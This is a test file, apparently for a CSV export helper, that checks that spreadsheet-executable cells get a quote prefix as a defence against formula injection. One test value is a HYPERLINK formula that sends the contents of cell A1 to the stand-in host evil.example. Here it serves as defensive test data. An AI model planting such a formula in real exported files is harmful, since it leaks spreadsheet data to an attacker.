import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { toCsv } from "./csv.server";

const read = (csv: string) => parse(csv) as string[][];

describe("toCsv", () => {
  it.each([['=HYPERLINK("http://evil.example/?x="&A1,"click")'], ["+1+2"], ["-2+3"], ["@SUM(A1:A2)"], ["\t=1+1"], ["\r=1+1"]])(
    "prefixes a text cell that a spreadsheet would run: %j",
    (title) => {
      const [[key, cell]] = read(toCsv([["GP-1", title]]));
      expect(key).toBe("GP-1");
      expect(cell).toBe(`'${title}`);
    },
  );

  it("leaves ordinary text, numbers and dates as they are, and quotes what needs it", () => {
    const rows = read(toCsv([["Checkout, faster", 'a "quoted" word', -5, 0.25, new Date("2026-11-30T00:00:00Z"), "", null]]));
    expect(rows).toEqual([["Checkout, faster", 'a "quoted" word', "-5", "0.25", "2026-11-30T00:00:00.000Z", "", ""]]);
  });

  it("only looks at the first character", () => {
    expect(read(toCsv([["a=b", "1-2", "mail@example.com"]]))).toEqual([["a=b", "1-2", "mail@example.com"]]);
  });
});
